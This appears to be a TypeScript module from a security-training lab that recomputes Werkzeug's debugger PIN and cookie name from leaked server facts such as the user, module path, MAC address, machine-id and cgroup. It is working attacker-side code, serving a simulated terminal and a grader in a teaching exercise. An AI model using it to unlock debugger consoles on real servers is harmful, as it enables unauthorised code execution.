/**
 * Werkzeug's debugger PIN from the facts it is derived from: the attacker's side of lesson 08,
 * shared by the terminal's `werkzeug-pin` and the `debugger-chain` check. Werkzeug 3.1.9's
 * `get_pin_and_cookie_name` and `get_machine_id` (src/werkzeug/debug/__init__.py) written again
 * in TypeScript, because the attacker computes it on their own machine, not inside the server's
 * Python: the terminal and the grader run in the page or in Node. Held to the real function by
 * `werkzeug-pin.spec.ts` (Werkzeug in Pyodide, on generated facts) and by the reality test, whose
 * PIN unlocks the real debugger under real Gunicorn.
 *
 * What Werkzeug 3.1.9 hashes (SHA-1, in this order, skipping empty values):
 *   the user (getpass.getuser()), the module of what DebuggedApplication wraps (`flask.app` for a
 *   Flask app), its `__name__` or class name (`Flask`; `wsgi_app` for `app.wsgi_app`), that
 *   module's `__file__`, str(uuid.getnode()) (the MAC address as a decimal integer), and the
 *   machine id: the first line of /etc/machine-id (else /proc/sys/kernel/random/boot_id) followed
 *   by the whole first line of /proc/self/cgroup.
 * then "cookiesalt" (the cookie name is `__wzd` + 20 hex digits), then "pinsalt": the PIN is the
 * first 9 decimal digits of the digest as an integer, in groups of 3.
 */
import { subtleCrypto } from './web-crypto';

export interface PinFacts {
  /** getpass.getuser() of the server process; null when it has none. */
  user: string | null;
  /** `__module__` of the wrapped app: `flask.app`. */
  modname: string;
  /** `__name__` of the wrapped app, else its class name: `Flask`. */
  appname: string;
  /** `__file__` of that module, as a traceback shows it. */
  moduleFile: string | null;
  /** The MAC address uuid.getnode() answers, `02:42:ac:11:00:02` (or its decimal value). */
  mac: string;
  /** /etc/machine-id (else /proc/sys/kernel/random/boot_id), as read; null when neither was read. */
  machineId: string | null;
  /** /proc/self/cgroup, as read; null when it was not. */
  cgroup: string | null;
}

export interface Pin {
  pin: string;
  cookieName: string;
}

const firstLine = (text: string): string => text.split('\n', 1)[0]!.trim();

/** uuid.getnode() as Python prints it: the 48-bit address as a decimal integer. */
export function macToNode(mac: string): string {
  const trimmed = mac.trim();
  if (/^\d+$/.test(trimmed)) return trimmed;
  const hex = trimmed.replace(/[:-]/g, '');
  if (!/^[0-9a-fA-F]{12}$/.test(hex)) throw new Error(`not a MAC address: ${JSON.stringify(mac)}`);
  return BigInt(`0x${hex}`).toString(10);
}

async function sha1Hex(data: Uint8Array): Promise<string> {
  const digest = new Uint8Array(await subtleCrypto().digest('SHA-1', data as BufferSource));
  return [...digest].map((byte) => byte.toString(16).padStart(2, '0')).join('');
}

export async function werkzeugPin(facts: PinFacts): Promise<Pin> {
  const machine = `${facts.machineId === null ? '' : firstLine(facts.machineId)}${
    facts.cgroup === null ? '' : firstLine(facts.cgroup)
  }`;
  const bits = [facts.user, facts.modname, facts.appname, facts.moduleFile, macToNode(facts.mac), machine];
  const encoder = new TextEncoder();
  const prefix = bits.filter((bit): bit is string => Boolean(bit)).join('');
  const cookieDigest = await sha1Hex(encoder.encode(`${prefix}cookiesalt`));
  const pinDigest = await sha1Hex(encoder.encode(`${prefix}cookiesaltpinsalt`));
  const digits = BigInt(`0x${pinDigest}`).toString(10).padStart(9, '0').slice(0, 9);
  return { pin: digits.match(/.{3}/g)!.join('-'), cookieName: `__wzd${cookieDigest.slice(0, 20)}` };
}
